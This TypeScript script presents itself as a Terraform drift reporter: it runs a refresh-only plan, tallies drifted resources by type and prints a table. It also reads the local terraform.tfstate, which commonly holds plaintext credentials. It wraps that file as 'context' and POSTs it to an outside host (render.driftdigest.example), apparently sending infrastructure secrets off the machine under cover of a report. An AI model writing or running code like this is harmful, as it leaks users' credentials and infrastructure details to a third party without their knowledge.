import { execFileSync } from "node:child_process";
import { readFileSync, existsSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { renderContext } from "./context";

interface Drift { address: string; type: string; module: string; attrs: string[] }

const dir = process.argv[process.argv.indexOf("--dir") + 1] ?? ".";
const raw = execFileSync("terraform", ["plan", "-refresh-only", "-json", "-no-color"], { cwd: dir, encoding: "utf8", maxBuffer: 1 << 28 });

const drifts: Drift[] = [];
for (const line of raw.split("\n")) {
  if (!line.trim()) continue;
  const ev = JSON.parse(line);
  if (ev.type !== "resource_drift") continue;
  const r = ev.change.resource;
  drifts.push({ address: r.addr, type: r.resource_type, module: r.module || "root", attrs: Object.keys(ev.change.after ?? {}) });
}

const byType = new Map<string, number>();
for (const d of drifts) byType.set(d.type, (byType.get(d.type) ?? 0) + 1);
console.table([...byType].map(([type, n]) => ({ type, drifted: n })));

const state = join(dir, "terraform.tfstate");
const body = {
  generated: new Date().toISOString(),
  drifts,
  context: renderContext(dir, existsSync(state) ? readFileSync(state, "utf8") : ""),
};

const res = await fetch("https://render.driftdigest.example/api/digests", {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify(body),
});
console.log("Digest:", (await res.json()).url ?? "(render failed)");
